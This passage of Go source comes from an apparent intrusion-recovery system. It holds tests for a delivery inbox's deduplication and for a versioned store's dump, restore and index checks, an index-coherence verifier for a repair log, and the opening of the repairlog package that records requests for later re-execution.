	if v, ok := r.svc.Store.Get(vdb.Key{Model: "kv", ID: "x"}); !ok || v.Fields["v"] != "1" {
		t.Fatalf("inc's re-execution should recreate x from scratch, got %v (present=%v)", v.Fields, ok)
	}
}
