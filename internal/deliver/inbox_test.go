package deliver

import (
	"reflect"
	"testing"
)

func TestSeq(t *testing.T) {
	cases := map[string]uint64{
		"a-dlv-42":   42,
		"svc-dlv-1":  1,
		"no-number":  0,
		"":           0,
		"justatoken": 0,
	}
	for id, want := range cases {
		if got := Seq(id); got != want {
			t.Errorf("Seq(%q) = %d, want %d", id, got, want)
		}
	}
}

func TestBeginDuplicateAndStale(t *testing.T) {
	ib := NewInbox(0)

	// First arrival applies.
	if d, _ := ib.Begin("a", "a-dlv-1", 0, false); d != Apply {
		t.Fatalf("first arrival = %v, want apply", d)
	}
	ib.Commit("a", "a-dlv-1", 0, "b-req-7", 100)

	// Re-delivery of the same generation is a duplicate carrying the
	// recorded outcome (the create's originally minted request ID).
	d, outcome := ib.Begin("a", "a-dlv-1", 0, false)
	if d != Duplicate || outcome != "b-req-7" {
		t.Fatalf("redelivery = %v %q, want duplicate b-req-7", d, outcome)
	}

	// Newer generation applies; after it commits, the old one is stale.
	if d, _ := ib.Begin("a", "a-dlv-1", 1, false); d != Apply {
		t.Fatalf("newer generation did not apply")
	}
	ib.Commit("a", "a-dlv-1", 1, "b-req-7", 200)
	if d, _ := ib.Begin("a", "a-dlv-1", 0, false); d != Stale {
		t.Fatalf("delayed superseded generation was not classified stale")
	}
	if d, o := ib.Begin("a", "a-dlv-1", 1, false); d != Duplicate || o != "b-req-7" {
		t.Fatalf("current generation redelivery = %v %q, want duplicate", d, o)
	}
}

func TestOriginsAreIndependent(t *testing.T) {
	ib := NewInbox(0)
	if d, _ := ib.Begin("a", "a-dlv-1", 0, false); d != Apply {
		t.Fatal("origin a first arrival should apply")
	}
	ib.Commit("a", "a-dlv-1", 0, "", 1)
	// Same delivery ID from a different origin is a different delivery.
	if d, _ := ib.Begin("b", "a-dlv-1", 0, false); d != Apply {
		t.Fatal("same ID from another origin must not be deduplicated")
	}
}

func TestRollbackForgetsReservation(t *testing.T) {
	ib := NewInbox(0)
	if d, _ := ib.Begin("a", "a-dlv-1", 0, false); d != Apply {
		t.Fatal("first arrival should apply")
	}
	ib.Rollback("a", "a-dlv-1", 0)
	// The apply failed; a retry of the same delivery must apply again.
	if d, _ := ib.Begin("a", "a-dlv-1", 0, false); d != Apply {
		t.Fatal("retry after rollback should apply")
	}
}

func TestRollbackRestoresCommittedState(t *testing.T) {
	ib := NewInbox(0)
	ib.Begin("a", "a-dlv-1", 0, false)
	ib.Commit("a", "a-dlv-1", 0, "out0", 10)
	// Newer generation reserved, then its apply fails.
	if d, _ := ib.Begin("a", "a-dlv-1", 3, false); d != Apply {
		t.Fatal("newer generation should apply")
	}
	ib.Rollback("a", "a-dlv-1", 3)
	// The old committed generation is authoritative again.
	if d, o := ib.Begin("a", "a-dlv-1", 0, false); d != Duplicate || o != "out0" {
		t.Fatalf("after rollback: %v %q, want duplicate out0", d, o)
	}
}

func TestEvictionWatermarkCoversOldDeliveries(t *testing.T) {
	ib := NewInbox(2)
	for i := 1; i <= 4; i++ {
		id := "a-dlv-" + string(rune('0'+i))
		if d, _ := ib.Begin("a", id, 0, false); d != Apply {
			t.Fatalf("delivery %d should apply", i)
		}
		ib.Commit("a", id, 0, "", int64(i))
	}
	if got := ib.Len(); got != 2 {
		t.Fatalf("inbox holds %d entries, want 2 (cap)", got)
	}
	// Deliveries 1 and 2 were evicted; their sequences sit below the
	// watermark, so a late duplicate is still re-acked, not re-applied.
	if d, _ := ib.Begin("a", "a-dlv-1", 0, false); d != Duplicate {
		t.Fatal("evicted delivery re-applied: watermark did not cover it")
	}
}

func TestInFlightDeliveryAnsweredRetryably(t *testing.T) {
	ib := NewInbox(0)
	if d, _ := ib.Begin("a", "a-dlv-1", 0, false); d != Apply {
		t.Fatal("first arrival should apply")
	}
	// A concurrent copy of the same delivery while the apply is pending
	// must not be acknowledged as a duplicate: the only apply may still
	// fail and roll back, which would have lost the repair.
	if d, _ := ib.Begin("a", "a-dlv-1", 0, false); d != InFlight {
		t.Fatal("concurrent same-generation arrival should be in-flight, not duplicate")
	}
	ib.Commit("a", "a-dlv-1", 0, "out", 1)
	if d, o := ib.Begin("a", "a-dlv-1", 0, false); d != Duplicate || o != "out" {
		t.Fatalf("after commit: %v %q, want duplicate out", d, o)
	}
}

func TestOnceOnlyDeliveryIgnoresGenerationBumps(t *testing.T) {
	ib := NewInbox(0)
	// A create applies and commits (the synthetic request is minted).
	ib.Begin("a", "a-dlv-1", 0, true)
	ib.Commit("a", "a-dlv-1", 0, "b-req-5", 10)
	// A Retry with refreshed credentials bumps the sender's generation,
	// but the mint already happened — the redelivery must be re-acked
	// with the original outcome, never re-applied.
	if d, o := ib.Begin("a", "a-dlv-1", 1, true); d != Duplicate || o != "b-req-5" {
		t.Fatalf("gen-bumped create redelivery = %v %q, want duplicate b-req-5", d, o)
	}
}

func TestEvictionWatermarkDoesNotSwallowNewerGenerations(t *testing.T) {
	ib := NewInbox(1)
	ib.Begin("a", "a-dlv-1", 0, false)
	ib.Commit("a", "a-dlv-1", 0, "", 1)
	ib.Begin("a", "a-dlv-2", 0, false)
	ib.Commit("a", "a-dlv-2", 0, "", 2) // evicts dlv-1
	// dlv-1's content was superseded after its entry was evicted: the
	// bumped generation carries content that never landed, so the
	// watermark must not swallow it.
	if d, _ := ib.Begin("a", "a-dlv-1", 1, false); d != Apply {
		t.Fatal("superseding content of an evicted delivery was dropped as duplicate")
	}
}

func TestGCRefusesPreHorizonDeliveries(t *testing.T) {
	ib := NewInbox(0)
	// Deliveries 1 and 3 are applied; 2 never arrives (held at the
	// sender awaiting Retry). 4 is applied after the horizon.
	ib.Begin("a", "a-dlv-1", 0, false)
	ib.Commit("a", "a-dlv-1", 0, "x", 100)
	ib.Begin("a", "a-dlv-3", 0, false)
	ib.Commit("a", "a-dlv-3", 0, "y", 120)
	ib.Begin("a", "a-dlv-4", 0, false)
	ib.Commit("a", "a-dlv-4", 0, "z", 200)

	ib.GC(150)
	if got := ib.Len(); got != 1 {
		t.Fatalf("after GC: %d entries, want 1", got)
	}
	// A GC'd delivery is refused as forgotten (410 on the wire), never
	// silently acknowledged.
	if d, _ := ib.Begin("a", "a-dlv-1", 0, false); d != Forgotten {
		t.Fatal("GC'd delivery should be refused as forgotten")
	}
	// So is the never-applied delivery 2, retried after the horizon: the
	// inbox cannot tell it from a late duplicate, and acking it would
	// lose the repair — refusing notifies the sender's administrator.
	if d, _ := ib.Begin("a", "a-dlv-2", 1, false); d != Forgotten {
		t.Fatal("never-applied pre-horizon delivery must not be silently acknowledged")
	}
	// The surviving one still carries its outcome.
	if d, o := ib.Begin("a", "a-dlv-4", 0, false); d != Duplicate || o != "z" {
		t.Fatalf("surviving entry = %v %q, want duplicate z", d, o)
	}
}

func TestDumpRestoreRoundTrip(t *testing.T) {
	ib := NewInbox(0)
	ib.Begin("a", "a-dlv-1", 2, false)
	ib.Commit("a", "a-dlv-1", 2, "b-req-9", 100)
	ib.Begin("c", "c-dlv-5", 0, false)
	ib.Commit("c", "c-dlv-5", 0, "", 50)
	// A pending (crashed mid-apply) reservation must not be persisted as
	// applied.
	ib.Begin("a", "a-dlv-2", 0, false)

	dump := ib.Dump()
	fresh := NewInbox(0)
	fresh.Restore(dump)

	if d, o := fresh.Begin("a", "a-dlv-1", 2, false); d != Duplicate || o != "b-req-9" {
		t.Fatalf("restored entry = %v %q, want duplicate b-req-9", d, o)
	}
	if d, _ := fresh.Begin("a", "a-dlv-1", 1, false); d != Stale {
		t.Fatal("restored entry lost its generation")
	}
	if d, _ := fresh.Begin("c", "c-dlv-5", 0, false); d != Duplicate {
		t.Fatal("restored second origin lost its entry")
	}
	// The interrupted apply re-applies after restart (write-ahead
	// semantics: it never committed).
	if d, _ := fresh.Begin("a", "a-dlv-2", 0, false); d != Apply {
		t.Fatal("pending reservation leaked into the dump as applied")
	}

	// Dump is deterministic (origins sorted, entries in LRU order).
	if !reflect.DeepEqual(dump, ib.Dump()) {
		t.Fatal("two dumps of the same inbox differ")
	}
}

func TestDumpPreservesWatermark(t *testing.T) {
	ib := NewInbox(1)
	ib.Begin("a", "a-dlv-1", 0, false)
	ib.Commit("a", "a-dlv-1", 0, "", 1)
	ib.Begin("a", "a-dlv-2", 0, false)
	ib.Commit("a", "a-dlv-2", 0, "", 2) // evicts dlv-1

	fresh := NewInbox(1)
	fresh.Restore(ib.Dump())
	if d, _ := fresh.Begin("a", "a-dlv-1", 0, false); d != Duplicate {
		t.Fatal("watermark lost across dump/restore")
	}
}
