// Index-coherence verification. The log's secondary indexes — respIdx, the
// per-target call timelines, the inverted read-dependency index, and the
// incrementally maintained totalOps counter — are derived state kept
// coherent by Append/Update/Resync/GC (and their WAL-replay equivalents).
// A missed Resync after an in-place rewrite, or a replay path that skips an
// index update, corrupts repair silently: the engine walks the inverted
// index instead of the timeline, so a stale entry re-repairs the wrong
// record and a missing one skips an affected record entirely.
// VerifyIndexes recomputes every index's claim from the primary timeline
// and reports the first divergence; the controller runs it at repair-wave
// start when Config.StrictIndexes is set.
package repairlog

import (
	"fmt"
	"sort"

	"aire/internal/vdb"
)

// VerifyIndexes cross-checks every secondary index against the primary
// timeline and returns the first inconsistency found (nil when coherent):
// byID and order must name the same records, order must be sorted by
// (TS, seq), every indexed call and dependency must be present at its
// timeline position, no index may hold stale entries (counts match), and
// totalOps must equal the recomputed dependency total.
//
// The check is a pure read of log state; it takes the log lock but performs
// no mutation, minting, or I/O, so enabling it does not perturb
// deterministic schedules.
func (l *Log) VerifyIndexes() error {
	l.mu.RLock()
	defer l.mu.RUnlock()
	if len(l.order) != len(l.byID) {
		return fmt.Errorf("repairlog: %d records on the timeline, %d in the ID map", len(l.order), len(l.byID))
	}
	if len(l.indexed) != len(l.order) {
		return fmt.Errorf("repairlog: %d records, %d indexed states", len(l.order), len(l.indexed))
	}
	var ops, respCount, siteCount int
	var readRefs, writeRefs, scanRefs int
	for i, r := range l.order {
		if l.byID[r.ID] != r {
			return fmt.Errorf("repairlog: timeline record %s is not the ID map's record", r.ID)
		}
		if i > 0 {
			prev := l.order[i-1]
			if prev.TS > r.TS || (prev.TS == r.TS && prev.seq >= r.seq) {
				return fmt.Errorf("repairlog: timeline unsorted at %d: (%d,%d) precedes (%d,%d)", i, prev.TS, prev.seq, r.TS, r.seq)
			}
		}
		if l.indexed[r] == nil {
			return fmt.Errorf("repairlog: record %s has no indexed state", r.ID)
		}
		ops += len(r.Reads) + len(r.Scans) + len(r.Writes)
		for ci, c := range r.Calls {
			if c.RespID != "" {
				pos, ok := l.respIdx[c.RespID]
				if !ok {
					return fmt.Errorf("repairlog: response-id %s (record %s call %d) missing from respIdx", c.RespID, r.ID, ci)
				}
				if pos.rec != r || pos.idx != ci {
					return fmt.Errorf("repairlog: response-id %s names record %s call %d, expected record %s call %d", c.RespID, pos.rec.ID, pos.idx, r.ID, ci)
				}
				respCount++
			}
			if c.RemoteReqID != "" {
				if !hasCallSite(l.calls[c.Target], r.TS, r.seq, ci, c.RemoteReqID) {
					return fmt.Errorf("repairlog: call %d of record %s (target %s, remote id %s) missing from the call timeline", ci, r.ID, c.Target, c.RemoteReqID)
				}
				siteCount++
			}
		}
		// insertRef deduplicates a record indexing the same key (or model)
		// twice, so count distinct dependencies per record.
		seenKeys := make(map[vdb.Key]bool, len(r.Reads))
		for _, d := range r.Reads {
			if seenKeys[d.Key] {
				continue
			}
			seenKeys[d.Key] = true
			if !hasRef(l.readers[d.Key], r) {
				return fmt.Errorf("repairlog: record %s missing from readers[%s/%s]", r.ID, d.Key.Model, d.Key.ID)
			}
			readRefs++
		}
		seenKeys = make(map[vdb.Key]bool, len(r.Writes))
		for _, d := range r.Writes {
			if seenKeys[d.Key] {
				continue
			}
			seenKeys[d.Key] = true
			if !hasRef(l.writers[d.Key], r) {
				return fmt.Errorf("repairlog: record %s missing from writers[%s/%s]", r.ID, d.Key.Model, d.Key.ID)
			}
			writeRefs++
		}
		seenModels := make(map[string]bool, len(r.Scans))
		for _, d := range r.Scans {
			if seenModels[d.Model] {
				continue
			}
			seenModels[d.Model] = true
			if !hasRef(l.scanners[d.Model], r) {
				return fmt.Errorf("repairlog: record %s missing from scanners[%s]", r.ID, d.Model)
			}
			scanRefs++
		}
	}
	if l.totalOps != ops {
		return fmt.Errorf("repairlog: totalOps drift: counter holds %d, records sum to %d", l.totalOps, ops)
	}
	// Reverse direction: the forward pass proved every call/dependency is
	// indexed; equal counts prove the indexes hold nothing else (no stale
	// entries surviving an unindex).
	if len(l.respIdx) != respCount {
		return fmt.Errorf("repairlog: respIdx holds %d entries, records carry %d identified responses", len(l.respIdx), respCount)
	}
	total := 0
	for target, sites := range l.calls {
		if len(sites) == 0 {
			return fmt.Errorf("repairlog: empty call timeline for target %s", target)
		}
		for j, s := range sites {
			if s.remoteID == "" {
				return fmt.Errorf("repairlog: call timeline for %s holds a site with no remote id", target)
			}
			if j > 0 && !callSiteLess(sites[j-1], s) {
				return fmt.Errorf("repairlog: call timeline for %s unsorted at %d", target, j)
			}
		}
		total += len(sites)
	}
	if total != siteCount {
		return fmt.Errorf("repairlog: call timelines hold %d sites, records carry %d identified calls", total, siteCount)
	}
	if n, err := verifyRefMap("readers", refKeyLists(l.readers), l.byID); err != nil {
		return err
	} else if n != readRefs {
		return fmt.Errorf("repairlog: readers index holds %d refs, records carry %d distinct read deps", n, readRefs)
	}
	if n, err := verifyRefMap("writers", refKeyLists(l.writers), l.byID); err != nil {
		return err
	} else if n != writeRefs {
		return fmt.Errorf("repairlog: writers index holds %d refs, records carry %d distinct write deps", n, writeRefs)
	}
	if n, err := verifyRefMap("scanners", refModelLists(l.scanners), l.byID); err != nil {
		return err
	} else if n != scanRefs {
		return fmt.Errorf("repairlog: scanners index holds %d refs, records carry %d distinct scan deps", n, scanRefs)
	}
	return nil
}

// hasRef reports whether the sorted ref list holds the record at its current
// timeline position.
func hasRef(refs []Ref, r *Record) bool {
	i := searchRefs(refs, r.TS, r.seq)
	return i < len(refs) && refs[i].Rec == r
}

// hasCallSite reports whether the sorted per-target call timeline holds the
// exact site (ts, seq, idx, remoteID).
func hasCallSite(sites []callSite, ts, seq int64, idx int, remoteID string) bool {
	j := sort.Search(len(sites), func(j int) bool {
		s := sites[j]
		if s.ts != ts {
			return s.ts > ts
		}
		if s.seq != seq {
			return s.seq > seq
		}
		return s.idx >= idx
	})
	if j >= len(sites) {
		return false
	}
	s := sites[j]
	return s.ts == ts && s.seq == seq && s.idx == idx && s.remoteID == remoteID
}

// callSiteLess orders call sites by (ts, seq, idx), strictly.
func callSiteLess(a, b callSite) bool {
	if a.ts != b.ts {
		return a.ts < b.ts
	}
	if a.seq != b.seq {
		return a.seq < b.seq
	}
	return a.idx < b.idx
}

// namedRefs is one index bucket flattened for verification: its display name
// plus its sorted ref list.
type namedRefs struct {
	name string
	refs []Ref
}

func refKeyLists(m map[vdb.Key][]Ref) []namedRefs {
	out := make([]namedRefs, 0, len(m))
	for k, refs := range m {
		out = append(out, namedRefs{name: k.Model + "/" + k.ID, refs: refs})
	}
	return out
}

func refModelLists(m map[string][]Ref) []namedRefs {
	out := make([]namedRefs, 0, len(m))
	for model, refs := range m {
		out = append(out, namedRefs{name: model, refs: refs})
	}
	return out
}

// verifyRefMap checks every bucket of an inverted-index map: non-empty,
// sorted, each ref pointing at a live record at its current timeline
// position. Returns the total ref count for the stale-entry count check.
func verifyRefMap(kind string, buckets []namedRefs, byID map[string]*Record) (int, error) {
	total := 0
	for _, b := range buckets {
		if len(b.refs) == 0 {
			return 0, fmt.Errorf("repairlog: empty %s bucket %s", kind, b.name)
		}
		for i, rf := range b.refs {
			if rf.Rec == nil || byID[rf.Rec.ID] != rf.Rec {
				return 0, fmt.Errorf("repairlog: %s[%s] ref %d names a record not in the log", kind, b.name, i)
			}
			if rf.TS != rf.Rec.TS || rf.Seq != rf.Rec.seq {
				return 0, fmt.Errorf("repairlog: %s[%s] ref %d position (%d,%d) diverged from record %s at (%d,%d)", kind, b.name, i, rf.TS, rf.Seq, rf.Rec.ID, rf.Rec.TS, rf.Rec.seq)
			}
			if i > 0 && !b.refs[i-1].Less(rf) {
				return 0, fmt.Errorf("repairlog: %s[%s] unsorted at %d", kind, b.name, i)
			}
		}
		total += len(b.refs)
	}
	return total, nil
}

// CorruptRespIndexForTest drops one response-id mapping (the smallest key,
// for determinism) so tests outside this package can prove the coherence
// guard fires; when the index is empty it drifts totalOps instead, so the
// corruption always takes effect. Test hook only.
func (l *Log) CorruptRespIndexForTest() {
	l.mu.Lock()
	defer l.mu.Unlock()
	min := ""
	for k := range l.respIdx {
		if min == "" || k < min {
			min = k
		}
	}
	if min != "" {
		delete(l.respIdx, min)
		return
	}
	l.totalOps++
}
