package vdb

import (
	"testing"
)

func TestDumpRestoreRoundTrip(t *testing.T) {
	s := NewStore()
	s.Put(Key{"kv", "a"}, fields("1"), 10, "r1")
	s.Put(Key{"kv", "a"}, fields("2"), 20, "r2")
	s.Delete(Key{"kv", "b"}, 30, "r3")
	s.PutImmutable(Key{"ver", "v1"}, fields("x"), 15, "r1")

	dump := s.Dump()
	if len(dump) != 3 {
		t.Fatalf("dump has %d objects", len(dump))
	}
	// Deterministic key order.
	if dump[0].Key.Model != "kv" || dump[0].Key.ID != "a" || dump[2].Key.Model != "ver" {
		t.Fatalf("dump order: %+v", []Key{dump[0].Key, dump[1].Key, dump[2].Key})
	}

	s2 := NewStore()
	if err := s2.Restore(dump); err != nil {
		t.Fatal(err)
	}
	// Values, time travel, tombstones, and immutability all survive.
	if v, ok := s2.GetAt(Key{"kv", "a"}, 15); !ok || v.Fields["val"] != "1" {
		t.Fatalf("restored GetAt = %+v %v", v, ok)
	}
	if v, ok := s2.Get(Key{"kv", "a"}); !ok || v.Fields["val"] != "2" {
		t.Fatalf("restored Get = %+v %v", v, ok)
	}
	if _, ok := s2.Get(Key{"kv", "b"}); ok {
		t.Fatal("tombstone lost in restore")
	}
	if n := s2.Rollback(Key{"ver", "v1"}, 0); n != 0 {
		t.Fatal("immutability lost in restore")
	}
	// Cached hashes recomputed: dependency checks still work.
	if s2.HashAt(Key{"kv", "a"}, 25) != s.HashAt(Key{"kv", "a"}, 25) {
		t.Fatal("hash mismatch after restore")
	}
	if s2.VersionBytes() <= 0 {
		t.Fatal("accounting not rebuilt")
	}
	// Restore into a non-empty store is refused.
	if err := s2.Restore(dump); err == nil {
		t.Fatal("restore into non-empty store must fail")
	}
}

func TestLatestOnlyStoreSemantics(t *testing.T) {
	s := NewStoreLatestOnly()
	k := Key{"kv", "x"}
	s.Put(k, fields("a"), 10, "r1")
	s.Put(k, fields("b"), 20, "r2")
	if n := len(s.Versions(k)); n != 1 {
		t.Fatalf("latest-only store kept %d versions", n)
	}
	if v, _ := s.Get(k); v.Fields["val"] != "b" {
		t.Fatal("latest write must win")
	}
	// Immutable objects still work and are not overwritten.
	s.PutImmutable(Key{"ver", "v"}, fields("x"), 30, "r3")
	if err := s.Put(Key{"ver", "v"}, fields("y"), 40, "r4"); err == nil {
		t.Fatal("immutable overwrite must fail even in latest-only mode")
	}
}

func TestVersionsAccessor(t *testing.T) {
	s := NewStore()
	k := Key{"kv", "x"}
	s.Put(k, fields("a"), 10, "r1")
	s.Put(k, fields("b"), 20, "r2")
	vs := s.Versions(k)
	if len(vs) != 2 || vs[0].Fields["val"] != "a" {
		t.Fatalf("versions = %+v", vs)
	}
	// Copies, not aliases.
	vs[0].Fields["val"] = "mutated"
	if v, _ := s.GetAt(k, 10); v.Fields["val"] != "a" {
		t.Fatal("Versions leaked internal state")
	}
}

func TestScanHashAtExcludingMasksOwnWrites(t *testing.T) {
	s := NewStore()
	s.Put(Key{"kv", "a"}, fields("1"), 10, "r1")
	base := s.ScanHashAtExcluding("kv", 100, "r-none")
	// r2 writes b; excluding r2 the scan looks unchanged.
	s.Put(Key{"kv", "b"}, fields("2"), 20, "r2")
	if got := s.ScanHashAtExcluding("kv", 100, "r2"); got != base {
		t.Fatal("own write must be masked from scan hash")
	}
	if got := s.ScanHashAtExcluding("kv", 100, "r-none"); got == base {
		t.Fatal("another writer's change must alter the scan hash")
	}
}
