package vdb

import (
	"strings"
	"testing"
)

// buildVerifyStore exercises every index-mutating path: puts, overwrites,
// tombstones, rollback (partial and to-zero), and GC.
func buildVerifyStore(t *testing.T) *Store {
	t.Helper()
	s := NewStore()
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	must(s.Put(Key{Model: "user", ID: "u1"}, map[string]string{"name": "ada"}, 1, "r1"))
	must(s.Put(Key{Model: "user", ID: "u2"}, map[string]string{"name": "bob"}, 2, "r2"))
	must(s.Put(Key{Model: "user", ID: "u1"}, map[string]string{"name": "ada2"}, 3, "r3"))
	must(s.Put(Key{Model: "msg", ID: "m1"}, map[string]string{"body": "hi"}, 4, "r4"))
	must(s.Delete(Key{Model: "user", ID: "u2"}, 5, "r5"))
	must(s.Put(Key{Model: "msg", ID: "m2"}, map[string]string{"body": "yo"}, 6, "r6"))
	s.Rollback(Key{Model: "user", ID: "u1"}, 2) // drop the ts=3 overwrite
	s.Rollback(Key{Model: "msg", ID: "m2"}, 5)  // drop m2 entirely
	s.GC(2)
	return s
}

func TestVerifyIndexesHealthy(t *testing.T) {
	s := buildVerifyStore(t)
	if err := s.VerifyIndexes(); err != nil {
		t.Fatalf("healthy store failed verification: %v", err)
	}
	if err := NewStore().VerifyIndexes(); err != nil {
		t.Fatalf("empty store failed verification: %v", err)
	}
}

func TestVerifyIndexesDetectsCorruption(t *testing.T) {
	cases := []struct {
		name    string
		corrupt func(*Store)
		want    string
	}{
		{
			name:    "fingerprint drift",
			corrupt: func(s *Store) { s.models["user"].curFP++ },
			want:    "scan fingerprint drift",
		},
		{
			name:    "dropped member",
			corrupt: func(s *Store) { s.indexRemoveLocked(Key{Model: "msg", ID: "m1"}) },
			want:    "missing from model",
		},
		{
			name: "orphan member",
			corrupt: func(s *Store) {
				s.indexInsertLocked(Key{Model: "user", ID: "ghost"})
			},
			want: "no versions",
		},
		{
			name: "unsorted member list",
			corrupt: func(s *Store) {
				ids := s.models["user"].ids
				if len(ids) < 2 {
					t.Skip("need two members")
				}
				ids[0], ids[1] = ids[1], ids[0]
			},
			want: "unsorted",
		},
		{
			name:    "test hook",
			corrupt: func(s *Store) { s.CorruptScanFPForTest("user") },
			want:    "scan fingerprint drift",
		},
		{
			name:    "test hook on unseen model",
			corrupt: func(s *Store) { s.CorruptScanFPForTest("never-written") },
			want:    "scan fingerprint drift",
		},
		{
			name:    "drop-entry test hook",
			corrupt: func(s *Store) { s.DropIndexEntryForTest(Key{Model: "user", ID: "u1"}) },
			want:    "missing from model",
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			s := buildVerifyStore(t)
			if err := s.VerifyIndexes(); err != nil {
				t.Fatalf("pre-corruption: %v", err)
			}
			tc.corrupt(s)
			err := s.VerifyIndexes()
			if err == nil {
				t.Fatal("corruption not detected")
			}
			if !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("error %q does not mention %q", err, tc.want)
			}
		})
	}
}
