// Package repairlog implements Aire's per-service repair log (§2.1, §2.2).
//
// During normal operation the log records every handled request together
// with its response, the database versions it read and wrote, the outgoing
// HTTP calls it made (and the Aire identifiers exchanged on them), and its
// recorded sources of nondeterminism. Local repair walks this log to find
// requests affected by an attack, re-executes them, and updates their
// records in place so that an already-repaired request can be repaired again
// (§2.2: "a future repair can perform recovery on an already repaired
// request").
package repairlog

import (
	"compress/gzip"
	"encoding/json"
	"fmt"
	"io"
	"sort"
	"sync"

	"aire/internal/vdb"
	"aire/internal/wire"
)

// ReadDep records one object read: the key, the timestamp of the version
// observed (0 when the read missed), and a fingerprint of the value read.
// Repair re-evaluates the read against the current store: the reader is
// affected only if the fingerprint changed.
type ReadDep struct {
	Key  vdb.Key `json:"key"`
	TS   int64   `json:"ts"`
	Hash uint64  `json:"hash"`
}

// ScanDep records one list query over a model: a fingerprint of the set of
// live objects (IDs and values) visible at read time.
type ScanDep struct {
	Model string `json:"model"`
	Hash  uint64 `json:"hash"`
}

// WriteDep records one object write: the key and the version timestamp.
type WriteDep struct {
	Key vdb.Key `json:"key"`
	TS  int64   `json:"ts"`
}

// Nondet records one consumed source of nondeterminism (kind "now" or
// "rand"), replayed in order during re-execution so local repair is stable
// (§3.3).
type Nondet struct {
	Kind  string `json:"kind"`
	Value int64  `json:"value"`
}

// Call records one outgoing HTTP call made while handling a request.
type Call struct {
	// Seq is the call's position within the handling request.
	Seq int `json:"seq"`
	// Target is the peer service the call was sent to.
	Target string `json:"target"`
	// RespID is the Aire-Response-Id this service assigned; it names the
	// peer's response for a later replace_response (§3.1).
	RespID string `json:"resp_id"`
	// RemoteReqID is the Aire-Request-Id the peer assigned; it names our
	// request on the peer for later replace/delete repair calls.
	RemoteReqID string `json:"remote_req_id"`
	// Req and Resp are the call's current (possibly repaired) payloads.
	Req  wire.Request  `json:"req"`
	Resp wire.Response `json:"resp"`
	// Tentative marks a response that is a placeholder timeout produced
	// during repair (§3.2); the true response arrives later via
	// replace_response.
	Tentative bool `json:"tentative,omitempty"`
	// Failed marks a call whose delivery failed during normal operation.
	Failed bool `json:"failed,omitempty"`
}

// Effect records one external side effect (e.g. sending email). Effects
// cannot be undone by rollback; when re-execution changes an effect's
// payload, the repair engine runs a compensating action (§7.1: the daily
// summary email notifies the administrator of the new contents).
type Effect struct {
	Seq     int    `json:"seq"`
	Kind    string `json:"kind"`
	Payload string `json:"payload"`
}

// Record is the log entry for one handled request.
type Record struct {
	// ID is the Aire-Request-Id this service assigned to the request.
	ID string `json:"id"`
	// TS is the request's position on the service's logical timeline.
	TS int64 `json:"ts"`
	// From is the authenticated peer service name ("" for an external
	// client such as a browser).
	From string `json:"from,omitempty"`
	// ClientRespID is the Aire-Response-Id supplied by the client; it names
	// our response on the client for replace_response ("" if the client is
	// not Aire-enabled).
	ClientRespID string `json:"client_resp_id,omitempty"`
	// NotifierURL is where a response-repair token for this request's
	// response should be sent ("" if the client did not supply one).
	NotifierURL string `json:"notifier_url,omitempty"`

	// Req and Resp are the current (possibly repaired) request and response.
	Req  wire.Request  `json:"req"`
	Resp wire.Response `json:"resp"`

	Reads   []ReadDep  `json:"reads,omitempty"`
	Scans   []ScanDep  `json:"scans,omitempty"`
	Writes  []WriteDep `json:"writes,omitempty"`
	Calls   []Call     `json:"calls,omitempty"`
	Nondet  []Nondet   `json:"nondet,omitempty"`
	Effects []Effect   `json:"effects,omitempty"`

	// Skipped marks a request cancelled by a delete repair: its effects are
	// rolled back and it is not re-executed, but the record remains so the
	// repair is itself repairable.
	Skipped bool `json:"skipped,omitempty"`
	// Synthetic marks a request created "in the past" by a create repair.
	Synthetic bool `json:"synthetic,omitempty"`
	// RepairGen counts how many times the request has been re-executed;
	// versioned-API applications fold it into fresh version IDs (§5.2).
	RepairGen int `json:"repair_gen,omitempty"`

	// seq is the record's insertion order in its log, assigned by Append.
	// Records sort on the timeline by (TS, seq): Append places a record
	// after existing records with equal TS, so seq is the tie-break that
	// makes index-driven walks visit records in exactly `order` order.
	seq int64
}

// Clone returns a deep copy of the record.
func (r *Record) Clone() *Record {
	c := *r
	c.Req = r.Req.Clone()
	c.Resp = r.Resp.Clone()
	c.Reads = append([]ReadDep(nil), r.Reads...)
	c.Scans = append([]ScanDep(nil), r.Scans...)
	c.Writes = append([]WriteDep(nil), r.Writes...)
	c.Calls = make([]Call, len(r.Calls))
	for i, cl := range r.Calls {
		cl.Req = cl.Req.Clone()
		cl.Resp = cl.Resp.Clone()
		c.Calls[i] = cl
	}
	c.Nondet = append([]Nondet(nil), r.Nondet...)
	c.Effects = append([]Effect(nil), r.Effects...)
	return &c
}

// Ref is a timeline reference to a record: the record plus its stable
// timeline position (TS first, then insertion order among equal
// timestamps). The repair engine's index-driven walk orders candidates by
// Ref so it visits records in exactly the order a full timeline walk would.
type Ref struct {
	Rec *Record
	TS  int64
	Seq int64
}

// Less reports whether r precedes o on the timeline.
func (r Ref) Less(o Ref) bool {
	if r.TS != o.TS {
		return r.TS < o.TS
	}
	return r.Seq < o.Seq
}

// callPos locates one outgoing call: the record plus the call's index.
type callPos struct {
	rec *Record
	idx int
}

// callSite is one Aire-identified outgoing call on a per-target timeline.
type callSite struct {
	ts, seq  int64 // owning record's timeline position
	idx      int   // call index within the record
	remoteID string
}

// Log is the per-service repair log. Create one with New. Log is safe for
// concurrent use; records handed out are owned by the log and must only be
// mutated through Update (or mutated in place under the service lock and
// resynchronized with Resync, as the repair engine's re-execution does).
//
// Alongside the primary timeline the log maintains secondary indexes so the
// hot repair paths stop scanning every record:
//
//   - respIdx:  Aire-Response-Id → (record, call index), the
//     FindByCallRespID lookup used on every incoming replace_response and
//     every delivered replace/create acknowledgment;
//   - calls:    per-target sorted call timelines backing NeighborCalls;
//   - readers/writers (by key) and scanners (by model): the inverted
//     read-dependency index the repair engine walks to visit only records
//     that could be affected by a rollback.
//
// All indexes are maintained by Append, Update, Resync, and GC. IDs are
// minted by idgen counters and must be unique per service; a duplicate
// Aire-Response-Id (two services reusing an ID, a buggy peer echoing one
// back) is detected at index-insert time and reported as an error — the
// first record indexed keeps the mapping, so the O(1) lookup never silently
// resolves to the wrong call.
type Log struct {
	mu       sync.RWMutex
	byID     map[string]*Record
	order    []*Record // sorted by TS ascending
	gcBefore int64
	nextSeq  int64

	respIdx  map[string]callPos
	calls    map[string][]callSite // per target, sorted by (ts, seq, idx)
	readers  map[vdb.Key][]Ref
